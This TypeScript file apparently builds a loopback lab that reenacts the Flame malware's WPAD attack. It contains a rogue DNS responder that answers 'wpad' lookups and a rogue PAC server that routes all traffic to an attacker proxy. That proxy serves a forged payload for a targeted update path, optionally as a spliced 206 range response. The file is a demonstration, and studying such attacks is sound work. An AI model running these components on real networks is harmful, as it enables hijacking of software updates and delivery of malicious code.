import http, { type IncomingMessage, type ServerResponse } from 'node:http';
import dgram from 'node:dgram';
import type { AddressInfo } from 'node:net';
import dnsPacket from 'dns-packet';
import { interpretRange } from '../proxy/byteRange.js';

/** Anything the lab starts, so that it can all be stopped and checked closed. */
export interface LabService {
  name: string;
  port: number;
  close(): Promise<void>;
}

/** One line of the narration: who asked, who answered, what was served. */
export interface LabEvent {
  actor: string;
  answeredBy: string;
  what: string;
}

function listen(server: http.Server, name: string): Promise<LabService> {
  server.keepAliveTimeout = 1000;
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const port = (server.address() as AddressInfo).port;
      resolve({
        name, port,
        close: () => new Promise<void>((r) => { server.close(() => r()); server.closeAllConnections(); }),
      });
    });
  });
}

/** Serves bytes with Range and HEAD, as an update content server does. */
export function sendEntity(req: IncomingMessage, res: ServerResponse, body: Buffer, forced206 = false): void {
  const base = { 'content-type': 'application/octet-stream', 'accept-ranges': 'bytes' };
  const r = interpretRange(typeof req.headers.range === 'string' ? req.headers.range : undefined, body.length);
  if (forced206 || r.kind === 'range') {
    const start = r.kind === 'range' ? r.range.start : 0;
    const end = r.kind === 'range' ? r.range.end : body.length - 1;
    res.writeHead(206, { ...base, 'content-range': `bytes ${start}-${end}/${body.length}`, 'content-length': end - start + 1 });
    return void res.end(req.method === 'HEAD' ? undefined : body.subarray(start, end + 1));
  }
  res.writeHead(200, { ...base, 'content-length': body.length });
  res.end(req.method === 'HEAD' ? undefined : body);
}

/** The vendor's genuine update server: path -> bytes. */
export function startUpdateServer(files: Map<string, Buffer>, log: (e: LabEvent) => void): Promise<LabService> {
  const server = http.createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    const body = files.get(path);
    if (!body) return void res.writeHead(404).end();
    log({ actor: 'update server', answeredBy: 'genuine update server', what: `${req.method} ${path}${req.headers.range ? ` (${req.headers.range})` : ''}: genuine bytes` });
    sendEntity(req, res, body);
  });
  return listen(server, 'genuine update server');
}

/**
 * The attacker's web proxy (Flame's role once WPAD made it the victim's proxy): requests for the
 * targeted update get the forged payload (the part of Flame's GADGET/MUNCH modules); everything
 * else is relayed to the genuine server, so the victim notices nothing.
 */
export function startAttackerProxy(opts: {
  updateHost: string; originPort: number; target: string; forged: Buffer; rangeSplice: boolean; log: (e: LabEvent) => void;
}): Promise<LabService> {
  const server = http.createServer((req, res) => {
    let url: URL;
    try { url = new URL(req.url ?? ''); } catch { return void res.writeHead(400).end(); }
    if (url.hostname === opts.updateHost && url.pathname === opts.target) {
      opts.log({
        actor: 'attacker proxy', answeredBy: 'attacker proxy',
        what: `${req.method} ${url.pathname}${req.headers.range ? ` (${req.headers.range})` : ''}: ${opts.rangeSplice ? '206 with spliced bytes' : 'forged payload'}`,
      });
      return sendEntity(req, res, opts.forged, opts.rangeSplice);
    }
    // Everything else: relayed to the genuine server untouched.
    const up = http.request({ host: '127.0.0.1', port: opts.originPort, method: req.method, path: url.pathname + url.search, headers: { ...req.headers, host: url.host } }, (r) => {
      res.writeHead(r.statusCode ?? 502, r.headers);
      r.pipe(res);
    });
    up.on('error', () => { if (!res.headersSent) res.writeHead(502); res.end(); });
    req.pipe(up);
  });
  return listen(server, 'attacker proxy');
}

/** The rogue PAC server: its PAC makes the attacker's proxy everyone's proxy. */
export function startRoguePacServer(attackerProxyPort: number, log: (e: LabEvent) => void): Promise<LabService> {
  const pac = `function FindProxyForURL(url, host) { return "PROXY 127.0.0.1:${attackerProxyPort}"; }\n`;
  const server = http.createServer((req, res) => {
    log({ actor: 'victim', answeredBy: 'rogue PAC server', what: `GET ${req.url} (Host: ${req.headers.host}): PAC sending all traffic to 127.0.0.1:${attackerProxyPort}` });
    res.writeHead(200, { 'content-type': 'application/x-ns-proxy-autoconfig' });
    res.end(pac);
  });
  return listen(server, 'rogue PAC server');
}

/**
 * The rogue name responder: answers the victim's `wpad` look-up (a real DNS exchange over UDP on a
 * loopback port) with the attacker's address, as Flame's SNACK module answered NetBIOS/WPAD queries.
 */
export function startRogueWpadResponder(log: (e: LabEvent) => void): Promise<LabService> {
  const sock = dgram.createSocket('udp4');
  sock.on('message', (msg, rinfo) => {
    let q: dnsPacket.DecodedPacket;
    try { q = dnsPacket.decode(msg); } catch { return; }
    const question = q.questions?.[0];
    if (!question || !/^wpad(\.|$)/i.test(question.name)) return;
    log({ actor: 'victim', answeredBy: 'rogue name responder', what: `DNS A? ${question.name} -> 127.0.0.1` });
    const answer = dnsPacket.encode({
      type: 'response', id: q.id, flags: dnsPacket.AUTHORITATIVE_ANSWER, questions: [question],
      answers: [{ type: 'A', class: 'IN', name: question.name, ttl: 60, data: '127.0.0.1' }],
    });
    sock.send(answer, rinfo.port, rinfo.address);
  });
  return new Promise((resolve, reject) => {
    sock.once('error', reject);
    sock.bind(0, '127.0.0.1', () => {
      resolve({ name: 'rogue name responder', port: sock.address().port, close: () => new Promise<void>((r) => sock.close(() => r())) });
    });
  });
}

/** The victim's resolver: one DNS query over UDP to the given server. */
export function resolveA(name: string, serverPort: number, timeoutMs = 2000): Promise<string> {
  const sock = dgram.createSocket('udp4');
  const id = Math.floor(Math.random() * 65535);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => { sock.close(); reject(new Error(`no answer for ${name}`)); }, timeoutMs);
    sock.on('message', (msg) => {
      const r = dnsPacket.decode(msg);
      if (r.id !== id) return;
      const a = r.answers?.find((x) => x.type === 'A') as { data?: unknown } | undefined;
      clearTimeout(timer);
      sock.close();
      if (a && typeof a.data === 'string') resolve(a.data);
      else reject(new Error(`no A record for ${name}`));
    });
    sock.send(dnsPacket.encode({ type: 'query', id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name }] }), serverPort, '127.0.0.1');
  });
}
